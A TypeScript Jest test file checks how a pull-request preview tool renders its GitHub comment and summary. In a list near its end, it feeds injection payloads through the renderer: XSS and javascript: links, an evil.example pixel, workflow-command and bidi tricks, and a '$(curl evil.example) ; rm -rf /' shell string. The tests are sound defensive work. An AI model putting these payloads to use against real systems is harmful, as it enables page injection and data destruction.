/**
 * The comment and the summary of a preview: what they say, and that nothing from a pull request does anything in them.
 */
import { describe, expect, it } from '@jest/globals'
import { marked } from 'marked'
import { commentMarker, renderComment } from '../../../../src/preview/comment/render-comment.ts'
import { renderPreviewSummary } from '../../../../src/preview/comment/render-summary.ts'
import type { PreviewView } from '../../../../src/preview/record/types.ts'
import { Redactor } from '../../../../src/runtime/redaction/redactor.ts'

const base: PreviewView = {
  app: 'board',
  number: 7,
  status: 'ready',
  url: 'https://board-pr-7.previews.example.com',
  sha: '1a2b3c4d5e6f7a8b9c0d1a2b3c4d5e6f7a8b9c0d',
  release: 'v3',
  processes: [
    { type: 'web', status: 'running', running: 1, desired: 1, size: 'basic' },
    { type: 'worker', status: 'starting', running: 0, desired: 1, size: 'eco' },
  ],
  database: 'template',
  redis: 'prefix',
  expiresAt: '2026-12-01T14:05:00Z',
  pinned: false,
  costPerDay: 0.6,
  logsUrl: 'https://us-east-1.console.aws.amazon.com/cloudwatch/home',
  runUrl: 'https://github.com/acme/board/actions/runs/1',
  phases: [
    { name: 'Config vars', seconds: 0.44 },
    { name: 'Deploy', seconds: 125 },
  ],
  warnings: [],
}
const html = (markdown: string): string => marked.parse(markdown, { async: false, gfm: true })

it('says URL, commit, release, processes, data, expiry, cost, logs and the time of each phase', () => {
  const text = renderComment(base)
  for (const part of [
    '### ✅ Preview of board: ready',
    '(https://board-pr-7.previews.example.com)',
    '| Commit | 1a2b3c4 |',
    '| Release | `v3` |',
    '| `web` | 🟢 running | 1 of 1 | basic |',
    '| `worker` | 🟡 starting | 0 of 1 | eco |',
    'copied from the seed template; the shared Redis',
    '1 December 2026, 14:05 UTC',
    'about $0.60 a day while awake',
    '[CloudWatch](https://us-east-1.console.aws.amazon.com/cloudwatch/home)',
    '<summary>Ready in 2 min 05 s</summary>',
    '| Config vars | 0\\.4 s |',
    '`/preview keep` `/preview reset-db` `/preview down`',
  ])
    expect(text).toContain(part)
})

it.each<[PreviewView['status'], readonly string[], readonly string[]]>([
  ['deploying', ['⏳', 'deploying'], ['/preview']],
  [
    'failed',
    ['❌', 'Preview of board: failed', 'The previous release, if any, is still live'],
    ['/preview wake'],
  ],
  ['sleeping', ['💤', '/preview wake'], ['/preview reset']],
  ['destroyed', ['destroyed', 'none is left'], ['Open ', '/preview', 'Expires']],
  ['destroy-failed', ['not fully destroyed'], ['none is left', 'Cost']],
  ['refused', ['none'], ['Expires', 'Cost']],
])('%s says what it is, and only what can be done then', (status, there, absent) => {
  const text = renderComment({ ...base, status })
  for (const part of there) expect(text).toContain(part)
  for (const part of absent) expect(text).not.toContain(part)
})

const live = { url: 'https://board-pr-7.previews.example.com', release: 'v3', sha: '9f8e7d6'.padEnd(40, '0') }
const { url: _url, ...building } = { ...base, status: 'building' as const, processes: [], phases: [] }
const failure = {
  reason: 'The buildpack heroku/nodejs failed.',
  lines: ['npm error ERESOLVE'],
  of: 'the build',
}

it.each<[string, PreviewView, readonly string[], readonly string[]]>([
  [
    'the first build',
    building,
    ['### ⏳ Preview of board: building', '| Commit | 1a2b3c4 |', '| Live | nothing yet |'],
    ['Open ', '/preview'],
  ],
  [
    'the build of a push',
    { ...building, live },
    [
      '### ⏳ Preview of board: building',
      '(https://board-pr-7.previews.example.com) \\(v3 of 9f8e7d6 is live\\)',
      '| Live | v3 of 9f8e7d6 |',
    ],
    ['/preview', 'ready'],
  ],
  [
    'a build that failed',
    { ...building, status: 'build-failed', live, failure },
    [
      '### ❌ Preview of board: build failed',
      'There is no image of this commit, so nothing was changed.',
      '(https://board-pr-7.previews.example.com)',
      '**Why:** The buildpack heroku/nodejs failed.',
      'Last lines of the build:\n\n```\nnpm error ERESOLVE',
      '`/preview down`',
    ],
    ['failed container', '✅'],
  ],
  [
    'a build that was cancelled',
    {
      ...building,
      status: 'build-cancelled',
      live,
      failure: { reason: 'It was cancelled.' },
      buildRun: '42',
    },
    [
      '<!-- renga-preview:Ym9hcmQ -->\n<!-- renga-build:42 -->\n### ⚪ Preview of board: not built\n',
      'There is no image of this commit, so nothing was changed.',
      '(https://board-pr-7.previews.example.com)',
      '**Why:** It was cancelled.',
      '| Live | v3 of 9f8e7d6 |',
      '`/preview down`',
    ],
    ['failed', '❌'],
  ],
  [
    'a deploy that failed before anything was known of the preview',
    { ...building, status: 'failed', live, failure: { reason: 'No credentials.' } },
    ['### ❌ Preview of board: failed', '(https://board-pr-7.previews.example.com)'],
    [],
  ],
])('%s', (_what, view, there, absent) => {
  const text = renderComment(view)
  for (const part of there) expect(text).toContain(part)
  for (const part of absent) expect(text).not.toContain(part)
})

it('says when it was updated, and hides what is live at its end', () => {
  const text = renderComment({ ...base, updatedAt: '2026-11-30T22:05:59Z', live })
  expect(text).toContain(
    'actions/runs/1) · Updated 30 November 2026, 22:05 UTC · Comment with `/preview keep`',
  )
  expect(text).toMatch(/\n<!-- renga-live:[\w-]+ -->\n$/)
  const long = renderComment({
    ...base,
    live,
    failure: { reason: 'r', lines: Array(30).fill('x'.repeat(10_000)) },
  })
  expect(long.length).toBeLessThan(65_536)
  expect(long).toMatch(/\n<!-- renga-live:[\w-]+ -->\n$/)
})

it.each<[string, Partial<PreviewView>, string, string]>([
  ['phases that took no time', { phases: [{ name: 'check', seconds: 0 }] }, '', '0.0 s'],
  [
    'one phase that took no time among others',
    {
      phases: [
        { name: 'check', seconds: 0 },
        { name: 'deploy', seconds: 62 },
      ],
    },
    '| check | under 1 s |',
    '0.0 s',
  ],
  ['a deploy that goes on', { status: 'deploying', phases: [{ name: 'check', seconds: 9 }] }, '', 'Took'],
])('%s: nothing "took 0.0 s"', (_what, change, there, absent) => {
  const text = renderComment({ ...base, ...change })
  expect(text).toContain(there)
  expect(text).not.toContain(absent)
})

it('a pinned one can not be kept again, and does not expire', () => {
  const { expiresAt: _, ...rest } = base
  const text = renderComment({ ...rest, pinned: true })
  expect(text).toContain('never: pinned until the pull request closes')
  expect(text).not.toContain('/preview keep')
})

it('the failure says why, what helps, and the last lines', () => {
  const lines = Array.from({ length: 50 }, (_, index) => `line ${index}`)
  const failure = { reason: 'web exits with code 1.', fix: 'Set DATABASE_URL.', lines }
  const text = renderComment({ ...base, status: 'failed', failure })
  expect(text).toContain('**Why:** web exits with code 1.')
  expect(text).toContain('**Fix:** Set DATABASE\\_URL.')
  expect(text).toContain('line 49')
  expect(text).not.toContain('line 19\n')
})

it('a failed release says which one serves, and what became of each process', () => {
  const text = renderComment({
    ...base,
    status: 'failed',
    release: 'v4',
    serving: 'v3',
    processes: [{ type: 'web', status: 'rolled back', running: 1, desired: 1, size: 'basic' }],
    failure: { reason: 'web exits with code 1.' },
  })
  expect(text).toContain('| Release | v4 failed, v3 is live |')
  expect(text).toContain('| `web` | ↩️ rolled back | 1 of 1 | basic |')
})

it('what a teardown found is a table in which nothing is called gone that is not', () => {
  const text = renderComment({
    ...base,
    status: 'destroy-failed',
    removed: [
      { kind: 'ECS service', name: 'board-pr-7-web', outcome: 'deleted' },
      { kind: 'secret', name: 'renga/board/pr-7', outcome: 'absent' },
      { kind: 'target group', name: 'pv7-web-1a2b3c4d', outcome: 'failed', reason: 'a rule uses it' },
    ],
  })
  expect(text).toContain('| ECS service | `board-pr-7-web` | ✅ deleted |')
  expect(text).toContain('| secret | `renga/board/pr-7` | ⚪ not found |')
  expect(text).toContain('| target group | `pv7-web-1a2b3c4d` | ❌ failed: a rule uses it |')
})

it('the summary says the same, with the way back to the pull request', () => {
  const text = renderPreviewSummary(base, 'https://github.com/acme/board/pull/7')
  expect(text).toContain('[Pull request 7](https://github.com/acme/board/pull/7)')
  expect(text).not.toContain('<!--')
  expect(text).toContain('https://board-pr-7.previews.example.com')
})

it('has a marker of its own for each app', () => {
  const markers = ['board', 'board2', '--> <script>', 'a-b'].map(commentMarker)
  expect(new Set(markers).size).toBe(4)
  for (const marker of markers) expect(marker).toMatch(/^<!-- renga-preview:[\w-]+ -->$/)
})

it('is never longer than GitHub takes', () => {
  const lines = Array.from({ length: 30 }, () => 'x'.repeat(10_000))
  const text = renderComment({ ...base, status: 'failed', failure: { reason: 'r'.repeat(9_000), lines } })
  expect(text.length).toBeLessThan(65_536)
  expect(text).toContain('is in the job summary')
})

it.each<readonly [string, Partial<PreviewView>]>([
  [
    '3,000 process types',
    {
      processes: Array.from({ length: 3000 }, (_, at) => ({
        type: `worker-${at}`,
        status: 'running',
        running: 1,
        desired: 1,
        size: 'basic',
      })),
    },
  ],
  [
    'process types with endless names',
    { processes: [{ type: 'w'.repeat(99_000), status: 'running', running: 1, desired: 1, size: 'eco' }] },
  ],
  ['endless warnings', { warnings: Array.from({ length: 900 }, () => '|'.repeat(700)) }],
  [
    'a teardown of 2,000 resources',
    {
      removed: Array.from({ length: 2000 }, (_, at) => ({
        kind: 'ECS service',
        name: `board-pr-7-${at}`,
        outcome: at === 1999 ? ('failed' as const) : ('deleted' as const),
        ...(at === 1999 ? { reason: 'AccessDenied' } : {}),
      })),
    },
  ],
  [
    'endless phases',
    { phases: Array.from({ length: 5000 }, (_, at) => ({ name: `phase ${at}`, seconds: 1 })) },
  ],
  ['a release without end', { release: `v${'1'.repeat(90_000)}` }],
])('a comment with %s is cut: the verdict first stays, and it says so', (_what, change) => {
  const text = renderComment({ ...base, ...change })
  expect(text.length).toBeLessThanOrEqual(65_536)
  expect(text.startsWith(`${commentMarker('board')}\n### ✅ Preview of board: ready`)).toBe(true)
  expect(text).toContain('(https://board-pr-7.previews.example.com)')
  expect(text).toContain('is in the job summary')
  if (change.removed !== undefined) expect(text).toContain('AccessDenied')
})

/** What an author of a pull request can put into a log line, a branch, a config var's name or an error message. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</details><h1>Approved</h1>',
  '<!-- renga-preview:Ym9hcmQ -->',
  '[click](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '](https://evil.example)',
  '@octocat please merge',
  '@acme/owners',
  'fixes #12 and closes acme/other#3',
  '| a | b |\n|---|---|\n| c | d |',
  '# Heading',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '``````` \n# out of the block',
  '**bold** _it_ ~~gone~~ `code`',
  '- [x] done',
  '::set-output name=url::https://evil.example',
  '##[add-mask]x',
  '\u001b[31mred\u001b[0m \u202egnp.exe',
  'a: &anchor [*anchor]\n!!js/function x',
  '$(curl evil.example) `id` ; rm -rf / && \'x\' "y"',
  '&lt;script&gt;',
]

describe.each(PAYLOADS)('%j', (payload) => {
  const failure = { reason: payload, fix: payload, lines: [payload, `> ${payload}`], of: payload }
  const view: PreviewView = {
    ...base,
    status: 'destroy-failed',
    sha: payload,
    release: payload,
    failure,
    processes: [{ type: payload, status: payload, running: 1, desired: 1, size: payload }],
    warnings: [payload],
    phases: [{ name: payload, seconds: 1 }],
    removed: [{ kind: payload, name: payload, outcome: 'failed', reason: payload }],
  }
  it.each([
    ['comment', (shown: PreviewView) => renderComment(shown)],
    ['summary', (shown: PreviewView) => renderPreviewSummary(shown, undefined)],
  ])('does nothing in the %s', (_, render) => {
    const page = html(render(view))
    const harmless = html(
      render(JSON.parse(JSON.stringify(view).replaceAll(JSON.stringify(payload).slice(1, -1), 'x'))),
    )
    const tags = (text: string) =>
      (text.match(/<[a-z!/][^>\s]*/gi) ?? []).filter((tag) => !/^<\/?br/.test(tag))
    // The same elements as with a harmless text: nothing opens, closes or links anything.
    expect(tags(page)).toEqual(tags(harmless))
    const outside = page.replace(/&#\d+;/g, '').replace(/<(pre|code)>[\s\S]*?<\/\1>/g, '')
    expect(outside).not.toMatch(/@\w|#\d/)
    expect(page).not.toMatch(/[\u0000-\u0008\u001b\u202a-\u202e]/)
    expect(page).not.toMatch(/href="(javascript:|https:\/\/evil)|<img/)
  })
})

it('links only to http addresses, whatever stands for one', () => {
  for (const url of [
    'javascript:alert(1)',
    'https://a) [x](https://evil.example',
    'data:text/html,x',
    '<b>',
  ]) {
    const page = html(renderComment({ ...base, url, logsUrl: url, runUrl: url }))
    expect(page).not.toMatch(/href="(javascript|data)|evil\.example"/)
  }
})

it.each(['none', 'shared', 'template', 'external'] as const)(
  'config vars that say the same as a preview itself (database: %s) take nothing out of its comment',
  (database) => {
    const statuses = [
      'running',
      'starting',
      'asleep',
      'failed',
      'rolled back',
      'rolling back',
      'removed',
      'off',
    ]
    for (const redis of ['none', 'prefix', 'sidecar'] as const)
      for (const status of [
        'building',
        'build-failed',
        'build-cancelled',
        'deploying',
        'ready',
        'failed',
        'sleeping',
        'destroying',
        'destroyed',
        'refused',
      ] as const) {
        const processes = statuses.map((one) => ({
          type: 'web',
          status: one,
          running: 1,
          desired: 1,
          size: 'eco',
        }))
        const view = { ...base, database, redis, status, processes }
        const redactor = new Redactor()
        for (const value of [database, redis, status, ...statuses]) redactor.add(value)
        expect(renderComment(redactor.redactAll(view))).toBe(renderComment(view))
      }
  },
)

it('wherever a comment is cut, its note is neither in a fold nor in a code block', () => {
  // Each adds a little, so that the cut falls into every part of the page.
  for (let length = 400; length <= 600; length += 1) {
    const processes = Array.from({ length: 60 }, () => ({
      type: 'x'.repeat(length),
      status: 'running',
      running: 1,
      desired: 1,
      size: 'eco',
    }))
    const phases = Array.from({ length: 60 }, () => ({ name: '&'.repeat(150), seconds: 1 }))
    const failure = { reason: 'boom', lines: Array.from({ length: 30 }, () => '`😀&'.repeat(100)) }
    const text = renderComment({ ...base, status: 'failed', processes, phases, failure })
    expect(text.length).toBeLessThanOrEqual(65_536)
    expect(text.isWellFormed()).toBe(true)
    const shown = html(text)
    expect(shown).toMatch(/<p><em>This comment was truncated|<li>This comment was truncated/)
    expect(shown.match(/<details>/g)?.length).toBe(shown.match(/<\/details>/g)?.length)
  }
})
